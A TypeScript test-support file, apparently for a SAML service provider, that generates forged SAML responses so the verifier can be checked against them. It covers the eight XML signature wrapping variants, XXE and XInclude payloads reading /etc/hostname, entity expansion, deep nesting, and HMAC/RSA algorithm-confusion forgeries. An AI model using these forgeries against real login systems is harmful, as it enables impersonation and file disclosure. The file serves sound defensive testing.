// SPDX-FileCopyrightText: Regione Campania
// SPDX-License-Identifier: AGPL-3.0-or-later
import { algorithm, ns } from '../../shared/saml-names.ts'
import { newId } from './responses.ts'
import { createPublicKey, X509Certificate } from 'node:crypto'
import { hmacSha256, signElement, withHmac, type Key } from './signing.ts'

/** What an attacker has: a good answer about somebody, and the name of whoever he wants to be. */
export type Loot = {
  /** The answer with no signatures. */
  plain: string
  key: Key
  /** The attribute value that gives his own identity away, and the one he wants in its place. */
  own: string
  wanted: string
}

/** A forgery that is not in AgID's table. */
export type Attack = { name: string; sentence: string; forge: (loot: Loot) => string }

const signatureIn = (xml: string): string => cut(xml, '<ds:Signature ', '</ds:Signature>')
const assertionIn = (xml: string): string => cut(xml, '<saml:Assertion ', '</saml:Assertion>')

function cut(xml: string, from: string, to: string): string {
  return xml.slice(xml.indexOf(from), xml.lastIndexOf(to) + to.length)
}

const within = (xml: string, inside: string, closing: string): string => {
  const at = xml.lastIndexOf(closing)
  return xml.slice(0, at) + inside + xml.slice(at)
}

/** A copy of something signed, with another person in it and without its signature. */
function twin(loot: Loot, xml: string, signature: string): string {
  return xml.replace(signature, '').replaceAll(loot.own, loot.wanted)
}

/** New IDs, so that nobody can tell the copy by an ID that occurs twice. */
const renewed = (xml: string): string => xml.replace(/ ID="[^"]*"/g, () => ` ID="${newId()}"`)

/** The parts that the wrapping attacks on a signed Response move about. */
function responseParts(loot: Loot): { signature: string; original: string; evil: string } {
  const whole = signElement(loot.plain, 'Response', loot.key)
  const signature = signatureIn(whole)
  return { signature, original: whole.replace(signature, ''), evil: renewed(twin(loot, whole, signature)) }
}

/** The parts that the wrapping attacks on a signed Assertion move about. */
function assertionParts(loot: Loot): {
  response: string
  whole: string
  signature: string
  original: string
  evil: string
} {
  const signed = signElement(loot.plain, 'Assertion', loot.key)
  const whole = assertionIn(signed)
  const signature = signatureIn(whole)
  return {
    response: signed.replace(whole, '@'),
    whole,
    signature,
    original: whole.replace(signature, ''),
    evil: renewed(twin(loot, whole, signature)),
  }
}

const object = (inside: string): string => `<ds:Object>${inside}</ds:Object>`
const afterIssuer = (xml: string, inside: string): string => xml.replace('</saml:Issuer>', `</saml:Issuer>${inside}`)

/** The eight shapes of "On Breaking SAML" (Somorovsky et al., 2012), namespaces kept and the signature a good one. */
const wrapping: Attack[] = [
  {
    name: 'xsw1',
    sentence: 'the signed Response inside the Signature of a false one',
    forge: (loot) => {
      const { signature, original, evil } = responseParts(loot)
      return afterIssuer(evil, within(signature, object(original), '</ds:Signature>'))
    },
  },
  {
    name: 'xsw2',
    sentence: 'the signed Response beside its Signature in a false one',
    forge: (loot) => {
      const { signature, original, evil } = responseParts(loot)
      return afterIssuer(evil, original + signature)
    },
  },
  {
    name: 'xsw3',
    sentence: 'a false Assertion before the signed one',
    forge: (loot) => {
      const { response, whole, evil } = assertionParts(loot)
      return response.replace('@', evil + whole)
    },
  },
  {
    name: 'xsw4',
    sentence: 'the signed Assertion inside a false one',
    forge: (loot) => {
      const { response, whole, evil } = assertionParts(loot)
      return response.replace('@', within(evil, whole, '</saml:Assertion>'))
    },
  },
  {
    name: 'xsw5',
    sentence: 'a false Assertion with the good Signature, the original after it',
    forge: (loot) => {
      const { response, signature, original, evil } = assertionParts(loot)
      return response.replace('@', afterIssuer(evil, signature) + original)
    },
  },
  {
    name: 'xsw6',
    sentence: 'a false Assertion with the good Signature, the original inside that',
    forge: (loot) => {
      const { response, signature, original, evil } = assertionParts(loot)
      return response.replace('@', afterIssuer(evil, within(signature, original, '</ds:Signature>')))
    },
  },
  {
    name: 'xsw7',
    sentence: 'a false Assertion in Extensions before the signed one',
    forge: (loot) => {
      const { response, whole, evil } = assertionParts(loot)
      const extensions = `<samlp:Extensions>${evil}</samlp:Extensions>`
      return afterIssuer(response, extensions).replace('@', whole)
    },
  },
  {
    name: 'xsw8',
    sentence: 'the original in an Object of the Signature of a false Assertion',
    forge: (loot) => {
      const { response, signature, original, evil } = assertionParts(loot)
      return response.replace('@', afterIssuer(evil, within(signature, object(original), '</ds:Signature>')))
    },
  },
]

const signedTwice = (loot: Loot): string =>
  signElement(signElement(loot.plain, 'Assertion', loot.key), 'Response', loot.key)
const onAssertion = (loot: Loot, options: Parameters<typeof signElement>[3]): string =>
  signElement(loot.plain, 'Assertion', loot.key, options)

/** The public key of a certificate as everybody can write it down. */
function publicKeyOf(certificate: string): string {
  return createPublicKey(certificate).export({ type: 'spki', format: 'pem' }).toString()
}

/** Forgeries by name: wrapping, entities, comments, weak and confused algorithms. */
export const attacks: readonly Attack[] = [
  ...wrapping,
  {
    name: 'xsw-same-id',
    sentence: 'a false Assertion with the ID of the signed one',
    forge: (loot) => {
      const { response, whole, signature } = assertionParts(loot)
      return response.replace('@', twin(loot, whole, signature) + whole)
    },
  },
  {
    name: 'altered',
    sentence: 'another person written into the signed Assertion',
    forge: (loot) => signedTwice(loot).replaceAll(loot.own, loot.wanted),
  },
  {
    name: 'duplicate-id',
    sentence: 'the ID of the Assertion given to a second element',
    forge: (loot) => {
      const { response, whole } = assertionParts(loot)
      const id = / ID="([^"]*)"/.exec(whole)?.[1] ?? ''
      return response.replace('<samlp:Status>', `<samlp:Status ID="${id}">`).replace('@', whole)
    },
  },
  {
    name: 'doctype',
    sentence: 'a document type declaration',
    forge: (loot) => `<!DOCTYPE samlp:Response [<!ELEMENT x ANY>]>${signedTwice(loot)}`,
  },
  {
    name: 'xxe',
    sentence: 'an external entity',
    forge: (loot) =>
      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/hostname">]>` +
      signedTwice(loot).replace('</saml:NameID>', '&file;</saml:NameID>'),
  },
  {
    name: 'xxe-parameter',
    sentence: 'a parameter entity that fetches a document type from elsewhere',
    forge: (loot) =>
      `<!DOCTYPE r [<!ENTITY % far SYSTEM "http://127.0.0.1:9/far.dtd"> %far;]>` +
      signedTwice(loot).replace('</saml:NameID>', '&file;</saml:NameID>'),
  },
  {
    name: 'xxe-inside',
    sentence: 'an external entity declared in the middle of the document',
    forge: (loot) =>
      signedTwice(loot).replace(
        '<saml:Subject>',
        '<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/hostname">]><saml:Subject>',
      ),
  },
  {
    name: 'xinclude',
    sentence: 'a file included in place of the fiscal code',
    forge: (loot) =>
      signedTwice(loot).replace(
        `>${loot.own}<`,
        '><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"></xi:include><',
      ),
  },
  {
    name: 'entity-expansion',
    sentence: 'entities that multiply',
    forge: (loot) =>
      `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>` +
      signedTwice(loot).replace('</saml:NameID>', '&c;</saml:NameID>'),
  },
  {
    name: 'processing-instruction',
    sentence: 'signed text turned into a processing instruction',
    forge: (loot) => signedTwice(loot).replace(`>${loot.own}<`, `><?x ${loot.own}?><`),
  },
  {
    name: 'sha1',
    sentence: 'a signature with RSA-SHA1',
    forge: (loot) => onAssertion(loot, { signature: `${ns.signature}rsa-sha1` }),
  },
  {
    name: 'digest-sha1',
    sentence: 'a digest with SHA-1',
    forge: (loot) => onAssertion(loot, { digest: `${ns.signature}sha1` }),
  },
  {
    name: 'hmac',
    sentence: 'an HMAC with the public certificate as the secret',
    forge: (loot) => onAssertion(loot, { signature: `${ns.signature}hmac-sha1`, hmacSecret: loot.key.certificate }),
  },
  ...(
    [
      ['hmac-certificate', 'the certificate as PEM', (pem: string) => pem],
      ['hmac-der', 'the bytes of the certificate', (pem: string) => new X509Certificate(pem).raw],
      ['hmac-key', 'the public key as PEM', publicKeyOf],
    ] as const
  ).map(([name, what, secret]) => ({
    name,
    sentence: `an HMAC-SHA256 with ${what} as the secret, and another person inside`,
    forge: (loot: Loot) => {
      const other = { ...loot, plain: loot.plain.replaceAll(loot.own, loot.wanted) }
      return withHmac(onAssertion(other, {}), hmacSha256, secret(loot.key.certificate))
    },
  })),
  {
    name: 'hmac-as-rsa',
    sentence: 'an HMAC with the public key as the secret that says it is RSA',
    forge: (loot) => {
      const other = { ...loot, plain: loot.plain.replaceAll(loot.own, loot.wanted) }
      return withHmac(onAssertion(other, {}), algorithm.rsaSha256, publicKeyOf(loot.key.certificate))
    },
  },
  {
    name: 'inclusive-c14n',
    sentence: 'a transform that is not the exclusive one',
    forge: (loot) =>
      onAssertion(loot, { transforms: [algorithm.enveloped, 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315'] }),
  },
  {
    name: 'three-transforms',
    sentence: 'one transform too many',
    forge: (loot) => onAssertion(loot, { transforms: [algorithm.enveloped, algorithm.exclusive, algorithm.exclusive] }),
  },
  {
    name: 'encrypted',
    sentence: 'an encrypted Assertion',
    forge: (loot) => {
      const { response } = assertionParts(loot)
      return response.replace('@', '<saml:EncryptedAssertion></saml:EncryptedAssertion>')
    },
  },
  {
    name: 'two-roots',
    sentence: 'two documents one after the other',
    forge: (loot) => signedTwice(loot) + signedTwice(loot),
  },
  {
    name: 'deep',
    sentence: 'elements nested by the thousand',
    forge: (loot) => {
      const deep = `${'<samlp:x>'.repeat(5000)}${'</samlp:x>'.repeat(5000)}`
      return signedTwice(loot).replace('<samlp:Status>', `<samlp:Extensions>${deep}</samlp:Extensions><samlp:Status>`)
    },
  },
]

/** A comment inside the signed text: it must not cut the value short, and the signature stays good. */
export function withComment(signed: string, value: string): string {
  const half = Math.floor(value.length / 2)
  return signed.replace(`>${value}<`, `>${value.slice(0, half)}<!-- -->${value.slice(half)}<`)
}
